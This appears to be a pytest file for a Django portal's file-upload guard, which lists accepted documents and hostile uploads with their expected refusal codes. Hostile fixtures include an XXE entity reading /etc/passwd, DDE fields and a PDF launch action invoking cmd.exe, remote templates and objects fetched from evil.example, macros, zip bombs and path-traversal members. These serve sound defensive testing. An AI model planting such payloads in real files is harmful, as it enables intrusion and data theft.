"""What the upload guard lets in, and the code of each refusal."""

import zipfile
from hashlib import sha256
from random import Random
from time import monotonic

import pytest
from django.core.exceptions import ValidationError
from pypdf.generic import ArrayObject, NameObject

from protect_portal.files.guard import ACCEPTED, check_upload, clean_name
from protect_portal.files.guard.picture import orientation
from protect_portal.files.models import StoredFile
from protect_portal.files.serve import CONTENT_TYPES
from protect_portal.files.store import store_upload
from tests.files import hostile
from tests.files.hostile import (
    BODY,
    LAUGHS,
    OLE,
    PLAIN,
    TYPES,
    archive,
    chunk,
    docx_field,
    docx_linked,
    docx_with,
    exif,
    make_jpeg,
    make_odf,
    make_odt,
    make_office,
    make_pdf,
    make_png,
    names,
    opening,
    page_event,
    pdf_with,
    segment,
    template_from,
    upload,
    zipped,
)
from tests.make import make_docx

TRUNCATED = make_docx().read()[:-400]
DTD = b'<?xml version="1.0"?><!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "library.dtd"><library/>'

GOOD = {
    "docx": (make_docx, "docx"),
    "xlsx": (lambda: make_office("xlsx"), "xlsx"),
    "pptx": (lambda: make_office("pptx"), "pptx"),
    "odt": (make_odt, "odt"),
    "ods": (lambda: make_odf("ods"), "ods"),
    "odp": (lambda: make_odf("odp"), "odp"),
    "pdf": (make_pdf, "pdf"),
    "png": (make_png, "png"),
    "jpg": (make_jpeg, "jpg"),
    "jpeg": (lambda: upload(make_jpeg().read(), "photo.JPEG"), "jpg"),
    "txt": (lambda: upload("Rânduri: ș, ț.\r\n\tDoi\f".encode(), "a.txt"), "txt"),
    "txt with a mark": (lambda: upload("ș".encode("utf-8-sig"), "a.txt"), "txt"),
    "txt in UTF-16": (lambda: upload("Ședință".encode("utf-16"), "a.txt"), "txt"),
    "md": (lambda: upload(b"# Title <script>", "a.md"), "md"),
    "csv with a formula": (lambda: upload(b"a;=1+1\n", "a.csv"), "csv"),
    "txt that begins like a picture": (lambda: upload("BM – Biroul Migrație".encode(), "a.txt"), "txt"),
    "txt that begins like a program": (lambda: upload("MZ: medicul din zonă".encode(), "a.txt"), "txt"),
    "txt that begins like sound": (lambda: upload(b"ID3 este un format", "a.txt"), "txt"),
    "txt that begins like an archive": (lambda: upload(b"BZh;LZIP;Rar!\n1;2;3", "a.csv"), "csv"),
    "txt that begins like a drawing": (lambda: upload(b"AC1015, GIF89a, OggS", "a.md"), "md"),
    "large letters": (lambda: make_docx(name="RAPORT.DOCX"), "docx"),
    "unseen sign": (lambda: make_docx(name="raport.docx\u200b"), "docx"),
    "double ending": (lambda: make_docx(name="raport.exe.docx"), "docx"),
    "template on the own disk": (lambda: template_from("file:///C:\\Users\\ana\\Normal.dotm"), "docx"),
    "template beside it": (lambda: template_from("Normal.dotm"), "docx"),
    "link to a page": (lambda: docx_linked("hyperlink", "https://example.org"), "docx"),
    "field of a link": (lambda: docx_field("HYPER", 'LINK "https://example.org"'), "docx"),
    "table behind a chart": (lambda: docx_with("word/embeddings/t.xlsx", make_office("xlsx").read()), "docx"),
    "old drawing": (lambda: docx_with("word/embeddings/o.bin", OLE + b"0" * 600), "docx"),
    "empty library": (lambda: make_odf(members={"Basic/script-lc.xml": DTD, "Basic/Standard/script-lb.xml": DTD}), "odt"),
    "empty settings": (lambda: make_odf(members={"Configurations2/accelerator/current.xml": b""}), "odt"),
    "pdf that opens at a page": (
        lambda: pdf_with(
            lambda writer: writer.root_object.update({NameObject("/OpenAction"): ArrayObject([writer.pages[0].indirect_reference])})
        ),
        "pdf",
    ),
    "pdf with a link": (
        lambda: pdf_with(
            lambda writer: writer.pages[0].update({NameObject("/Annots"): ArrayObject([names(A=names(S="/URI", URI="https://a"))])})
        ),
        "pdf",
    ),
}


@pytest.mark.parametrize("case", GOOD)
def test_good_files_come_in(case):
    make, kind = GOOD[case]
    assert check_upload(make()) == kind


def test_every_accepted_type_has_a_content_type():
    assert set(CONTENT_TYPES) == set(ACCEPTED)


HOSTILE = {
    "empty": (lambda: upload(b""), "empty"),
    "empty pdf": (lambda: upload(b"", "a.pdf"), "empty"),
    "another type": (lambda: upload(b"MZ", "setup.exe"), "type"),
    "no ending": (lambda: upload(b"text", "notes"), "type"),
    "only an ending": (lambda: make_docx(name=".docx"), "type"),
    "double ending": (lambda: make_docx(name="text.docx.exe"), "type"),
    "turned name": (lambda: upload(b"MZ", "text\u202excod.exe"), "type"),
    "second stream of a name": (lambda: make_docx(name="text.docx:evil.exe"), "type"),
    "with macros by name": (lambda: make_docx(name="text.docm"), "type"),
    "endless ending": (lambda: upload(b"x", "a." + "\u0958" * 75), "type"),  # longer than 255 bytes only once composed: no loop, no file
    "half a sign": (lambda: upload(b"x", "a.\ud800"), "type"),
    # another content than the ending says
    "html renamed": (lambda: upload(b"<html><script>alert(1)</script>", "text.docx"), "content"),
    "picture renamed": (lambda: upload(make_png().read(), "text.pdf"), "content"),
    "pdf renamed": (lambda: upload(make_pdf().read(), "text.docx"), "content"),
    "docx renamed": (lambda: upload(make_docx().read(), "text.pdf"), "content"),
    "docx as odt": (lambda: upload(make_docx().read(), "text.odt"), "content"),
    "docx as xlsx": (lambda: upload(make_docx().read(), "text.xlsx"), "content"),
    "odt as ods": (lambda: upload(make_odt().read(), "text.ods"), "content"),
    "template as docx": (
        lambda: make_office("docx", types="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
        "content",
    ),
    "plain zip": (lambda: archive({"letter.txt": b"x"}), "content"),
    "png as jpg": (lambda: upload(make_png().read(), "a.jpg"), "content"),
    "pdf as txt": (lambda: upload(make_pdf().read(), "a.txt"), "content"),
    "picture as txt": (lambda: upload(make_png().read(), "a.txt"), "content"),
    "gif as txt": (lambda: upload(b"GIF89a" + bytes(40), "a.txt"), "content"),
    "program as txt": (lambda: upload(b"MZ\x90\0\x03", "a.txt"), "content"),
    "zeros in a csv": (lambda: upload(b"a;b\0c", "a.csv"), "content"),
    "old code page": (lambda: upload("Ședință".encode("iso-8859-16"), "a.txt"), "encoding"),
    "pdf behind other words": (lambda: upload(b"#!/bin/sh\n" + make_pdf().read(), "a.pdf"), "content"),
    # passwords
    "old doc": (lambda: upload(OLE + b"0" * 600), "old"),
    "locked members": (hostile.locked_member, "encrypted"),
    "locked odt": (lambda: make_odf(members={"META-INF/manifest.xml": b"<m:a xmlns:m='x'><m:encryption-data/></m:a>"}), "encrypted"),
    "pdf with a password": (lambda: make_pdf("secret"), "encrypted"),
    # damaged
    "cut off": (lambda: upload(TRUNCATED), "broken"),
    "no xml": (lambda: docx_with(BODY, b"not xml"), "broken"),
    "wrong sum": (hostile.wrong_sum, "broken"),
    "odd compression": (lambda: archive({TYPES: b"", BODY: PLAIN}, method=zipfile.ZIP_BZIP2), "broken"),
    "odt without a text": (lambda: make_odf(members={"content.xml": b""}), "broken"),
    "pdf without pages": (lambda: make_pdf(pages=0), "broken"),
    "only the head of a pdf": (lambda: upload(b"%PDF-1.7\n" + b"x" * 400, "text.pdf"), "broken"),
    "png cut off": (lambda: upload(make_png().read()[:-9], "a.png"), "broken"),
    "jpg cut off": (lambda: upload(make_jpeg().read()[:-2], "a.jpg"), "broken"),
    "jpg without a picture": (lambda: upload(b"\xff\xd8\xff\xd9", "a.jpg"), "broken"),
    # definitions in XML
    "laughs": (lambda: docx_with(BODY, LAUGHS % b""), "doctype"),
    "laughs in a part beside": (lambda: docx_with("word/extra.xml", LAUGHS % b""), "doctype"),
    "laughs in a manifest": (lambda: make_odf(members={"META-INF/manifest.xml": LAUGHS % b""}), "doctype"),
    "laughs behind a long comment": (lambda: docx_with(BODY, LAUGHS % (b"<!--" + b" " * 9000 + b"-->")), "doctype"),
    "laughs in UTF-16": (
        lambda: docx_with(BODY, (LAUGHS % b"").decode().replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")),
        "doctype",
    ),
    "outside entity": (lambda: docx_with(BODY, b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), "doctype"),
    # bombs
    "bomb by ratio": (lambda: archive({TYPES: b"", BODY: PLAIN, "word/media/a": b"0" * 40_000_000}), "bomb"),
    "bomb by members": (lambda: archive({TYPES: b"", BODY: PLAIN} | {f"m{n}": b"" for n in range(2_000)}), "bomb"),
    "bomb of points, png": (lambda: make_png(width=100_000, height=100_000), "pixels"),
    "bomb of points, jpg": (lambda: make_jpeg(width=60_000, height=60_000), "pixels"),
    # names inside
    "way up": (lambda: docx_with("../evil.xml", b"<a/>"), "path"),
    "way up inside": (lambda: docx_with("word/../../evil.xml", b"<a/>"), "path"),
    "from the root": (lambda: docx_with("/etc/evil.xml", b"<a/>"), "path"),
    "from a disk": (lambda: docx_with("C:/evil.xml", b"<a/>"), "path"),
    "turned slashes": (lambda: docx_with("word\\evil.xml", b"<a/>"), "path"),
    "the same name twice": (hostile.docx_twice, "path"),
    "link of Unix": (hostile.linked_member, "path"),
    # a second file
    "zip behind a pdf": (lambda: upload(make_pdf().read() + zipped(), "a.pdf"), "hidden"),
    "zip behind a png": (lambda: make_png(behind=zipped()), "hidden"),
    "zip behind a jpg": (lambda: make_jpeg(behind=zipped()), "hidden"),
    "words behind a docx": (lambda: upload(make_docx().read() + b"<script>"), "hidden"),
    "zip before a docx": (lambda: upload(zipped() + make_docx().read()), "hidden"),
    # what would run
    "macros": (lambda: docx_with("word/vbaProject.bin", b"x"), "macros"),
    "macros by another name": (
        lambda: make_office("xlsx", types="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        "macros",
    ),
    "old macro sheet": (lambda: make_office("xlsx", **{"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
    "macros of an odt": (lambda: make_odf(members={"Basic/Standard/Module1.xml": b"<a/>"}), "macros"),
    "script of an odt": (lambda: make_odf(members={"Scripts/python/evil.py": b"import os"}), "macros"),
    "macros in an old object": (lambda: docx_with("word/embeddings/o.bin", OLE + "_VBA_PROJECT".encode("utf-16-le")), "macros"),
    "macros in a table inside": (
        lambda: docx_with("word/embeddings/t.xlsx", make_office("xlsx", **{"xl/vbaProject.bin": b"x"}).read()),
        "macros",
    ),
    "program inside": (lambda: docx_with("word/media/image1.png", b"MZ\x90\0"), "program"),
    "program by its ending": (lambda: docx_with("word/media/run.vbs", b"x"), "program"),
    "program in an odt": (lambda: make_odf(members={"Pictures/a.png": b"\x7fELF"}), "program"),
    "zip inside": (lambda: docx_with("word/media/a.png", zipped()), "embedded"),
    "zip inside an odt": (lambda: make_odf(members={"Pictures/a.png": zipped()}), "embedded"),
    "DDE field in pieces": (lambda: docx_field("DDE", "AUTO c:\\\\windows\\\\cmd.exe"), "field"),
    "DDE in a workbook": (lambda: make_office("xlsx", **{"xl/externalLinks/externalLink1.xml": b"<a><ddeLink/></a>"}), "field"),
    "DDE in an ods": (lambda: make_odf("ods", {"styles.xml": b"<o:a xmlns:o='x'><o:dde-source/></o:a>"}), "field"),
    # what would be fetched
    "template from the web": (lambda: template_from("https://evil.example/t.dotm"), "template"),
    "template from a share": (lambda: template_from("\\\\evil\\t.dotm"), "template"),
    "template from a server's files": (lambda: template_from("file://evil/t.dotm"), "template"),
    "template from a share as a file": (lambda: template_from("file:////evil/t.dotm"), "template"),
    "object from the web": (
        lambda: docx_linked("oleObject", "mhtml:https://evil.example/x!x-usc:y", part="word/_rels/a.xml.rels"),
        "external",
    ),
    "picture from the web": (lambda: docx_linked("image", "http://evil.example/p.png", part="word/_rels/a.xml.rels"), "external"),
    "picture of an odt from the web": (
        lambda: make_odf(members={"styles.xml": b"<a xmlns:x='l'><image x:href='https://evil.example/p'/></a>"}),
        "external",
    ),
    "text in another file": (lambda: docx_linked("aFChunk", "a.html", "Internal", "word/_rels/a.xml.rels"), "chunk"),
    # pdf
    "script on opening": (lambda: opening(S="/JavaScript", JS="app.alert(1)"), "script"),
    "launch on opening": (lambda: opening(S="/Launch", F="cmd.exe"), "script"),
    "page of the web on opening": (lambda: opening(S="/URI", URI="https://evil.example"), "script"),
    "script of a page": (lambda: page_event(S="/JavaScript", JS="app.alert(1)"), "script"),
    "script of the document": (
        lambda: pdf_with(lambda writer: writer.root_object.update({NameObject("/Names"): names(JavaScript=names())})),
        "script",
    ),
    "packed script with a masked name": (hostile.packed_script, "script"),
    "file inside a pdf": (lambda: pdf_with(lambda writer: writer.add_attachment("setup.exe", b"MZ")), "embedded"),
}


@pytest.mark.filterwarnings("ignore:Duplicate name:UserWarning")
@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_files_stay_out(case):
    make, code = HOSTILE[case]
    with pytest.raises(ValidationError) as refusal:
        check_upload(make())
    assert refusal.value.code == code


def test_a_member_that_lies_about_its_size_is_broken():
    content = bytearray(docx_with("word/media/note.jpeg", b"01" * 5_000).read())
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = (100).to_bytes(4, "little")
    with pytest.raises(ValidationError) as refusal:
        check_upload(upload(bytes(content)))
    assert refusal.value.code == "broken"


def test_too_large_says_the_limit(settings):
    settings.UPLOAD_LIMIT = 1024
    with pytest.raises(ValidationError) as refusal:
        check_upload(make_docx())
    assert refusal.value.code == "size"


NAMES = {
    "text.docx": "text.docx",
    "C:\\Users\\ana\\text.docx": "text.docx",
    "../../etc/text.docx": "text.docx",
    "Anexă țintă.docx": "Anexă țintă.docx",
    "Anexa\u0306.docx": "Anexă.docx",
    "evil\u202excod.docx": "evilxcod.docx",
    "a\r\nSet-Cookie: x.docx": "aSet-Cookie: x.docx",
    "  spaces .docx": "spaces .docx",
    "z\u200ber\u0000o.docx": "zero.docx",
    "half\ud800.docx": "half.docx",
    "con.docx": "_con.docx",
    "LPT1.x.docx": "_LPT1.x.docx",
    "contract.docx": "contract.docx",
}


@pytest.mark.parametrize("name", NAMES)
def test_names_are_cleaned(name):
    assert clean_name(name) == NAMES[name]


def test_long_names_fit_255_bytes():
    name = clean_name("ț" * 300 + ".docx")
    assert name == "ț" * 125 + ".docx"
    assert len(name.encode()) == 255


def test_refusal_stores_nothing(world, settings, tmp_path):
    """In a folder of its own: beside it others store theirs."""
    default = settings.STORAGES["default"]
    settings.STORAGES = settings.STORAGES | {"default": default | {"OPTIONS": default["OPTIONS"] | {"location": tmp_path}}}
    before = StoredFile.objects.count()
    with pytest.raises(ValidationError):
        store_upload(upload(b"<html>"), by=world.ana)
    assert (StoredFile.objects.count(), list(tmp_path.rglob("*"))) == (before, [])
    store_upload(make_docx(), by=world.ana)
    assert [path.is_file() for path in tmp_path.rglob("*/*")] == [True]


def test_stored_outside_the_name(world):
    stored = store_upload(make_docx(name="Anexă.docx"), by=world.ana)
    assert (stored.name, stored.type, len(stored.content.name)) == ("Anexă.docx", "docx", 35)


@pytest.mark.parametrize("method", [zipfile.ZIP_DEFLATED, zipfile.ZIP_LZMA])
def test_damaged_compression_is_broken(method):
    whole = archive({"word/document.xml": bytes(range(256)) * 40}, method=method).read()
    middle = whole.index(b"word/document.xml") + 40
    with pytest.raises(ValidationError) as refusal:
        check_upload(upload(whole[:middle] + bytes(60) + whole[middle + 60 :]))
    assert refusal.value.code in {"broken", "content"}


DESCRIBED = {
    "jpg": lambda: make_jpeg(
        segment(0xE1, b"Exif\0\0" + exif()), segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0GPS44"), segment(0xFE, b"GPS"), behind=b"GPS44"
    ),
    "jpg, other order": lambda: make_jpeg(segment(0xE1, b"Exif\0\0" + exif(order=">")), segment(0xED, b"Photoshop GPS44")),
    "png": lambda: make_png(chunk(b"eXIf", exif()), chunk(b"tEXt", b"place\0GPS44"), chunk(b"iTXt", b"XML\0GPS44"), behind=b"GPS44"),
}


@pytest.mark.parametrize("case", DESCRIBED)
def test_pictures_lose_their_place_and_keep_what_is_up(world, case):
    stored = store_upload(DESCRIBED[case](), by=world.ana)
    with stored.content.open("rb") as file:
        kept = file.read()
    assert (b"GPS" in kept, orientation(kept[kept.index(b"MM\0*") :])) == (False, 6)
    assert (stored.size, stored.sha256) == (len(kept), sha256(kept).hexdigest())
    again = store_upload(upload(kept, stored.name), by=world.ana)
    assert again.sha256 == stored.sha256


def test_a_plain_picture_stays_as_it_is(world):
    for make in (make_jpeg, make_png):
        assert store_upload(make(), by=world.ana).sha256 == sha256(make().read()).hexdigest()


def test_fifty_megabytes_take_seconds():
    """Held to a generous ceiling: what matters is that it is no minute."""
    photos = {f"word/media/image{n}.jpg": Random(n).randbytes(9_000_000) for n in range(5)}
    text = b"<a>" + b"<b/>" * 2_000_000 + b"</a>"
    file, start = make_office("docx", **photos, **{"word/comments.xml": text}), monotonic()
    assert (check_upload(file), monotonic() - start < 20) == ("docx", True)
